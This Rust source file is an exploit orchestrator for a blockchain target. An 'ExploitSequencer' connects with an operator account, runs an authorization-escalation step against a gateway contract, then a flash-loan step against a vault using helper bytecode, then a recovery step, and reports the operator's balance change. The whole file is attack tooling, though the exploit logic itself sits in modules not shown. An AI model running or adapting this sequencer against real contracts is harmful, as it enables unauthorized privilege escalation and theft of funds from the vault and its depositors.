use libexo_core::{
    blockchain::client::ChainClient,
    error::ExoError,
    types::{Address, Bytes},
};
use libexo_utils::log::{info, info_span};
use libexo_wallet::{account::Account, builder::TransactionBuilder};

use crate::{
    config::{ExploitSettings, Tunables},
    gateway::AuthEscalation,
    recovery::RecoveryController,
    report::RunReport,
    step::StepRunner,
    vault::FlashLoanGrant,
};

/// Runs the authorization escalation, then the flash loan grant, then
/// recovery, one transaction at a time on one account.
pub struct ExploitSequencer<C: ChainClient> {
    builder: TransactionBuilder<C>,
    gateway: Address,
    vault: Address,
    tunables: Tunables,
    helper_code: Bytes,
}

impl<C: ChainClient> ExploitSequencer<C> {
    /// Connect to the chain and prepare the helper bytecode. Fails if the
    /// chain id cannot be read or the helper does not compile.
    pub fn new(client: C, settings: ExploitSettings) -> Result<Self, ExoError> {
        Self::with_account(
            client,
            settings.account,
            settings.gateway,
            settings.vault,
            settings.tunables,
        )
    }

    pub fn with_account(
        client: C,
        account: Account,
        gateway: Address,
        vault: Address,
        tunables: Tunables,
    ) -> Result<Self, ExoError> {
        let builder = TransactionBuilder::new(client, account, tunables.fee_policy)?;
        info!(
            chain_id = builder.chain_id(),
            operator = %builder.account().address(),
            %gateway,
            %vault,
            "connected"
        );
        let helper_code = tunables.helper_code.resolve()?;
        info!(size = helper_code.len(), "helper bytecode ready");
        Ok(Self {
            builder,
            gateway,
            vault,
            tunables,
            helper_code,
        })
    }

    pub fn builder(&self) -> &TransactionBuilder<C> {
        &self.builder
    }

    /// Run both chains and recovery. Step failures end up in the report;
    /// recovery runs regardless.
    pub fn run(&self) -> RunReport {
        let client = self.builder.client();
        let operator = self.builder.account().address();
        let start_balance = client.balance(operator).ok();
        let runner = StepRunner::new(
            &self.builder,
            self.tunables.receipt_timeout,
            self.tunables.max_pending_rechecks,
        );

        let authorization = {
            let _span = info_span!("chain", id = crate::gateway::CHAIN_NAME).entered();
            AuthEscalation::new(&runner, self.gateway, self.tunables.max_tier).run()
        };
        let (flash_loan, helper) = {
            let _span = info_span!("chain", id = crate::vault::CHAIN_NAME).entered();
            FlashLoanGrant::new(
                &runner,
                self.vault,
                self.tunables.helper_buffer,
                &self.helper_code,
            )
            .run()
        };
        let recovery = {
            let _span = info_span!("recovery").entered();
            RecoveryController::new(&runner, self.vault).recover(helper)
        };

        let mut report = RunReport {
            operator,
            chain_id: self.builder.chain_id(),
            authorization,
            flash_loan,
            recovery,
            operator_balance_start: None,
            operator_balance_end: None,
            operator_balance_delta: None,
        };
        report.set_operator_balances(start_balance, client.balance(operator).ok());
        info!(
            authorization = report.authorization.success,
            flash_loan = report.flash_loan.success,
            recovered = report.recovery.recovered(),
            "run finished"
        );
        report
    }
}
